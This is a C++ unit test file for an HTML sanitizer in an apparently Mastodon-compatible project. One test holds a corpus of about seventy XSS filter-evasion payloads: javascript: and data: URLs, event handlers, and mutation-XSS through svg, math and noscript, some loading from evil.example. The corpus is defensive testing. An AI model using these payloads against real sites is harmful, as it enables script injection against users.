// What is left of HTML that strangers wrote.
#include "posts/html.hpp"

#include <algorithm>
#include <array>
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "base/bytes.hpp"

namespace tagring::posts {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

struct Case {
  const char* html;
  const char* expected;
};

TEST(Html, KeepsWhatMastodonKeeps) {
  constexpr std::array<Case, 12> kCases = {{
      {"<p>Hello <b>you</b><br/>there</p>", "<p>Hello <b>you</b><br>there</p>"},
      {R"h(<a href="https://a.example/@b" class="u-url mention evil" onclick="x()">@<span>b</span></a>)h",
       R"(<a class="u-url mention" href="https://a.example/@b" rel="nofollow noopener noreferrer" target="_blank">@<span>b</span></a>)"},
      {R"(<span class="invisible">https://</span><span class="ellipsis">a.example</span>)",
       R"(<span class="invisible">https://</span><span class="ellipsis">a.example</span>)"},
      {"<h1>Title</h1><p>x</p>", "<p><strong>Title</strong></p><p>x</p>"},
      {"<ul><li>one</li><li value=\"3\">two</li></ul>", "<ul><li>one</li><li value=\"3\">two</li></ul>"},
      {"<div><p>in a div</p></div>", "<p>in a div</p>"},
      {"<blockquote><pre><code>x &lt; y</code></pre></blockquote>",
       "<blockquote><pre><code>x &lt; y</code></pre></blockquote>"},
      {"<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>", "<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>"},
      {"<p dir=\"rtl\">שלום</p>", "<p dir=\"rtl\">שלום</p>"},
      {"a & b < c", "a &amp; b &lt; c"},
      {"<p>left open", "<p>left open</p>"},
      {"<img src=\"https://a.example/x.png\" alt=\"a &quot;cat&quot;\">", "a &quot;cat&quot;"},
  }};
  for (const Case& each : kCases) EXPECT_EQ(sanitize_html(each.html), each.expected) << each.html;
}

// XML has no place for these, not even escaped, and what is made for pages goes into feeds too.
TEST(Html, DropsWhatNoFeedMayHave) { EXPECT_EQ(escape_html("a\x01\uFFFE\uFFFF\r<\uFFFD"), "a&lt;\uFFFD"); }

// From the OWASP cheat sheet of filter evasion, the tests of DOMPurify and of Mastodon, and known mutations.
TEST(Html, LetsNoScriptThrough) {
  constexpr std::array kCorpus = {
      "<script>alert(1)</script>",
      "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
      "<scr<script>ipt>alert(1)</scr</script>ipt>",
      "<script\x0c>alert(1)</script>",
      "<<SCRIPT>alert(1);//\\<</SCRIPT>",
      "<IMG SRC=\"javascript:alert(1);\">",
      "<IMG SRC=x onerror=alert(1)>",
      "<img src=x:x onerror\n=\nalert(1)>",
      "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
      "<a href=\"javascript:alert(1)\">x</a>",
      "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
      "<a href=\"  javascript:alert(1)\">x</a>",
      "<a href=\"java\nscript:alert(1)\">x</a>",
      "<a href=\"java&#x09;script:alert(1)\">x</a>",
      "<a href=\"&#106;avascript:alert(1)\">x</a>",
      "<a href=\"\x01javascript:alert(1)\">x</a>",
      "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
      "<a href=\"vbscript:msgbox(1)\">x</a>",
      "<a href=\"https://user:pass@evil.example/\">x</a>",
      "<a href=https://a.example style=position:fixed>x</a>",
      "<a href='https://a.example/\" onmouseover=\"alert(1)'>x</a>",
      "<p style=\"background:url(javascript:alert(1))\">x</p>",
      "<p onclick=alert(1)>x</p>",
      "<p/onclick=alert(1)/>x</p>",
      "<style>@import 'https://evil.example/x.css';</style>",
      "<style><img src=\"</style><img src=x onerror=alert(1)//\">",
      "<svg><script>alert(1)</script></svg>",
      "<svg onload=alert(1)>",
      "<svg><style><img src=x onerror=alert(1)></style></svg>",
      "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
      "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
      "onerror=alert(1)&gt;\">",
      "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
      "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
      "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
      "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
      "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
      "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
      "<textarea></textarea><script>alert(1)</script>",
      "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
      "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
      "<select><template><img src=x onerror=alert(1)></template></select>",
      "<template><script>alert(1)</script></template>",
      "<iframe src=\"javascript:alert(1)\"></iframe>",
      "<iframe srcdoc=\"<script>alert(1)</script>\">",
      "<iframe><img title=\"</iframe><img src onerror=alert(1)>\"></iframe>",
      "<object data=\"javascript:alert(1)\"></object>",
      "<embed src=\"javascript:alert(1)\">",
      "<base href=\"javascript:alert(1)//\">",
      "<link rel=stylesheet href=\"https://evil.example\">",
      "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
      "<form action=\"javascript:alert(1)\"><input type=submit></form>",
      "<button formaction=\"javascript:alert(1)\">x</button>",
      "<video><source onerror=\"alert(1)\"></video>",
      "<audio src=x onerror=alert(1)>",
      "<details open ontoggle=alert(1)>x</details>",
      "<body onload=alert(1)>x</body>",
      "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
      "<marquee onstart=alert(1)>x</marquee>",
      "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
      "<!--><img src=x onerror=alert(1)>-->",
      "<!-- --!><img src=x onerror=alert(1)>",
      "<![CDATA[<script>alert(1)</script>]]>",
      "<svg><![CDATA[><image xlink:href=\"]]><img src=x onerror=alert(1)//\"></svg>",
      "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
      "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
      "<custom-element onfocus=alert(1) tabindex=1>x</custom-element>",
      "<plaintext><script>alert(1)</script>",
      "<a><p><a href=javascript:alert(1)>x</a></p></a>",
      "<p id=\"__proto__\" name=\"constructor\">x</p>",
      "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  };
  for (const char* html : kCorpus) {
    const std::string clean = sanitize_html(html);
    // Of tags there are only ours, and in these only our attributes.
    for (std::size_t at = clean.find('<'); at != std::string::npos; at = clean.find('<', at + 1)) {
      const std::string tag = clean.substr(at, clean.find('>', at) - at + 1);
      EXPECT_THAT(tag,
                  testing::MatchesRegex("</?(p|br|a|span|del|s|pre|code|b|i|u|strong|em|ul|ol|li|ruby|rt|rp|"
                                        "blockquote)( (class|href|rel|target|dir|translate|start|value)="
                                        "\"[^\"<>]*\")*>"))
          << html << "\n"
          << clean;
      EXPECT_THAT(ascii_lower(tag), Not(HasSubstr("script:"))) << html;
      EXPECT_THAT(ascii_lower(tag), Not(HasSubstr("data:"))) << html;
    }
    // Made clean once, it stays as it is: nothing comes to life when it is read again.
    EXPECT_EQ(sanitize_html(clean), clean) << html;
  }
}

TEST(Html, IsBoundedWhateverComes) {
  // Each <p> would open all <b> again.
  std::string many;
  for (int i = 0; i < 20'000; ++i) many += "<b id=" + std::to_string(i) + "><p>";
  EXPECT_LE(sanitize_html(many).size(), HtmlLimits().output_max);
  std::string deep;
  for (int i = 0; i < 1400; ++i) deep += "<div>";
  EXPECT_EQ(sanitize_html(deep + "x"), "x");
  // Within that number they would take 900 MB: the text is shown without any.
  std::string quadratic = "<p>";
  for (int i = 0; i < 700; ++i) quadratic += "<b id=" + std::to_string(i) + " b c d e f g h>";
  for (int i = 0; i < 700; ++i) quadratic += "<p>x";
  EXPECT_THAT(sanitize_html(quadratic), ::testing::Not(::testing::HasSubstr("<")));
  EXPECT_THAT(text_of_html(quadratic, 10'000), ::testing::Not(::testing::HasSubstr("<")));
  std::string rich;  // an article
  for (int i = 0; i < 240; ++i)
    rich += "<p class=\"p-name\" id=\"" + std::to_string(i) + "\"><a href=\"https://a.example/" +
            std::string(200, 'a') + "\"><b>x</b></a></p>";
  EXPECT_THAT(sanitize_html(rich), ::testing::HasSubstr("<b>x</b></a></p>"));
  EXPECT_LE(sanitize_html(std::string(3'000'000, 'x')).size(), HtmlLimits().output_max);
  const std::string cut =
      sanitize_html("<p>" + std::string(100, 'x') + "&amp;</p><p>more</p>", {.output_max = 63});
  EXPECT_EQ(cut, "<p>xxxxxxxxxx</p>");
  std::string classes;
  for (int i = 0; i < 1000; ++i) classes += "mention ";
  EXPECT_EQ(sanitize_html("<p>x<span class=\"" + classes + "\">y</span></p>", {.output_max = 100}),
            "<p>x</p>");
}

TEST(Html, GivesTheTextALinePerParagraph) {
  EXPECT_EQ(text_of_html("<p>one &amp; two</p><p>three<br>four</p><script>x</script>", 100),
            "one & two\nthree\nfour");
  EXPECT_EQ(text_of_html("no markup", 100), "no markup");
  EXPECT_EQ(text_of_html("<p>ääää</p>", 3), "ä");
}

TEST(Html, EscapesForXmlToo) {
  EXPECT_EQ(escape_html("a<b>&\"c'\x01\x1f\n"), "a&lt;b&gt;&amp;&quot;c&#39;\n");
}

}  // namespace
}  // namespace tagring::posts
